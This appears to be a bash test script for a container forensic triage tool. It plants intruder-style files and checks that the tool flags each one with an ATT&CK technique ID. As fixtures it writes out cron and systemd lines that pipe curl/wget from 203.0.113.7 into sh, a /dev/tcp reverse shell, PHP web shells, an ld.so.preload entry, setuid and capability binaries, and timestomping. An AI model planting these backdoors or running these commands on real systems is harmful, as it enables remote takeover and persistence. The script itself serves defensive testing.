#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# Files that an intruder leaves are found with their technique; those of the image are not, and no time of any file moves.
# timeout: 120
. "$CSI_TOP/tests/helpers/lib.sh"
mkdir -p image
cp -a "$CSI_RUN/images/target/." image/
# The image has its own jobs, keys and set-id programs, from long ago.
mkdir -p image/etc/cron.d image/root/.ssh image/usr/bin image/var/www/html image/etc/profile.d
echo '* * * * * root curl http://x | sh' >image/etc/cron.d/old
echo key >image/root/.ssh/authorized_keys
cp "$CSI_RUN/bin/target" image/usr/bin/old-setid
chmod 4755 image/usr/bin/old-setid
cp "$CSI_RUN/bin/target" image/usr/bin/ls
echo '<?php system($_GET["c"]); ?>' >image/var/www/html/old.php
find image -exec touch -h -d '2024-05-06 07:08:09.123456789' {} +
sleep 1.1
POD_IMAGE=$PWD/image
export POD_IMAGE
pod_up

# alerts: "SIGN LEVEL PATH TECHNIQUE" of the last run, files alone
alerts() {
	jq -r 'select(.event.kind == "alert" and .csi.subject == "file") | "\(.rule.id) \(.csi.level) \(.file.path) \(.threat.technique.id[0])"' "$OUT" | LC_ALL=C sort
}

expect_alerts() {
	checks=$((checks + 1))
	LC_ALL=C sort >want.alerts
	alerts >got.alerts
	diff -u --label expected --label got want.alerts got.alerts >alerts.diff || fail "other signs" alerts.diff
}

run csi triage --json
expect_exit 0
expect_alerts </dev/null

m=$MERGED
# What lies on a volume is new by its ctime, and the first second is the runtime's own.
sleep 1.1
cp "$CSI_RUN/bin/target" "$m/tmp/kdevtmpfsi"
cp "$CSI_RUN/bin/target" "$m/usr/bin/new-setid" && chmod 4755 "$m/usr/bin/new-setid"
cp "$CSI_RUN/bin/target" "$m/usr/bin/stomped" && touch -r "$m/usr/bin/ls" "$m/usr/bin/stomped"
cp "$CSI_RUN/bin/target" "$m/usr/bin/capable" && setcap cap_sys_admin+ep "$m/usr/bin/capable"
echo '*/5 * * * * root wget -q -O - http://203.0.113.7/d.sh | sh' >"$m/etc/cron.d/zzz"
echo '17 * * * * root /usr/sbin/logrotate' >"$m/etc/cron.d/plain"
mkdir -p "$m/home/u/.ssh" "$m/etc/systemd/system"
echo 'ssh-ed25519 AAAA intruder' >"$m/home/u/.ssh/authorized_keys"
printf '[Service]\nExecStart=/bin/sh -c "curl http://203.0.113.7 | sh"\n' >"$m/etc/systemd/system/x.service"
echo 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1 &' >"$m/etc/profile.d/x.sh"
echo '/etc/libsystem.so' >"$m/etc/ld.so.preload"
printf '\177ELF' >"$m/etc/libsystem.so"
printf '<?php @eval($_POST["x"]); ?>\n' >"$m/var/www/html/up.php"
cp "$m/var/www/html/up.php" "$POD_DIR/volume/up.php"
mkdir -p "$m/etc/update-motd.d"
printf '#!/bin/sh\nuptime\n' >"$m/etc/update-motd.d/99-x"
printf '<?php echo "hello"; ?>\n' >"$m/var/www/html/page.php"
printf 'alias ll="ls -l"\n' >"$m/etc/profile.d/plain.sh"
sum=$(sha256sum <"$m/tmp/kdevtmpfsi" | cut -d' ' -f1)
chattr +i "$m/etc/cron.d/zzz" 2>/dev/null && immutable=yes || immutable=
harm_before

expect_within 10 csi triage --json
expect_exit 0
expect_gaps
expect_printable "$OUT" "$ERR"
{
	cat <<-EOF
		file-caps high /usr/bin/capable T1548
		file-dropped medium /tmp/kdevtmpfsi T1105
		file-kinsing high /etc/libsystem.so T1496
		file-kinsing high /tmp/kdevtmpfsi T1496
		file-program low /usr/bin/stomped T1105
		file-setid high /usr/bin/new-setid T1548.001
		persist-boot high /etc/systemd/system/x.service T1543.002
		persist-cron high /etc/cron.d/zzz T1053.003
		persist-cron medium /etc/cron.d/plain T1053.003
		persist-profile high /etc/profile.d/x.sh T1546.004
		persist-profile low /etc/profile.d/plain.sh T1546.004
		persist-ssh medium /home/u/.ssh/authorized_keys T1098.004
		persist-trigger low /etc/update-motd.d/99-x T1546.017
		timestomp medium /usr/bin/stomped T1070.006
		web-shell high /var/www/html/up.php T1505.003
		web-shell medium /data/up.php T1505.003
	EOF
	[ -z "$immutable" ] || echo 'file-immutable high /etc/cron.d/zzz T1222.002'
} | expect_alerts
expect_json "any(.[]; .rule.id == \"file-kinsing\" and .file.path == \"/tmp/kdevtmpfsi\" and
	any(.csi.evidence[]; .field == \"file.hash.sha256\" and .value == \"$sum\"))"
expect_no_harm
chattr -i "$m/etc/cron.d/zzz" 2>/dev/null
run csi triage
expect_printable "$OUT" "$ERR"
